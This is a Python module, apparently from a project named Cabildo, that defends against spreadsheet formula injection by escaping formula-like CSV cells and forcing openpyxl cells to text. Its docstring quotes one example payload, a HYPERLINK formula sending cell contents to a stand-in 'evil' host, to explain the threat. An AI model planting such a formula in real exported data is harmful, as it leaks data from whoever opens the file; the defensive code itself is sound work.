"""Cells written from what people typed are never evaluated by a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which
some spreadsheets skip before looking) is a formula to Excel, LibreOffice and Google Sheets:
``=HYPERLINK("http://evil/?"&A1, "clic")`` in a consultation observation would run on the
computer of whoever opens the open-data CSV. Every CSV and XLSX of Cabildo writes its cells
through this module:

- CSV has no types: such text gets a leading apostrophe (``'=…``), shown as text (OWASP).
- openpyxl turns such a ``str`` into a formula; :func:`append_row` stores it as text instead.
- ``cabildo.core.xlsx`` writes every string as an inline string, which no spreadsheet evaluates.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS)


def csv_escaped(value: Any) -> bool:
    """Whether :func:`csv_cell` writes the value behind an apostrophe: formula-like text, and
    text that would read back as such an escape (``'-`` is written ``''-``), so that reading
    (:func:`csv_text`) gives back exactly what was typed."""
    if is_formula_like(value):
        return True
    return isinstance(value, str) and value.startswith("'") and csv_escaped(value[1:])


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell no spreadsheet evaluates."""
    return f"'{value}" if csv_escaped(value) else value


def csv_text(value: str) -> str:
    """A CSV cell as it was typed: the apostrophe :func:`csv_cell` added, taken off."""
    return value[1:] if value.startswith("'") and csv_escaped(value[1:]) else value


class SafeCsvWriter:
    """``csv.writer`` whose rows go through :func:`csv_cell` (same ``writerow``/``writerows``)."""

    def __init__(self, target: Any, **options: Any) -> None:
        self._writer = csv.writer(target, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(target: Any, **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(target, **options)


def append_row(sheet: Any, row: Iterable[Any]) -> None:
    """``sheet.append(row)`` for an openpyxl worksheet, formula-like text kept as text."""
    values = list(row)
    sheet.append(values)
    if any(is_formula_like(value) for value in values):
        number = sheet.max_row
        for column, value in enumerate(values, start=1):
            if is_formula_like(value):
                cell = sheet.cell(row=number, column=column)
                cell.value = value
                cell.data_type = "s"
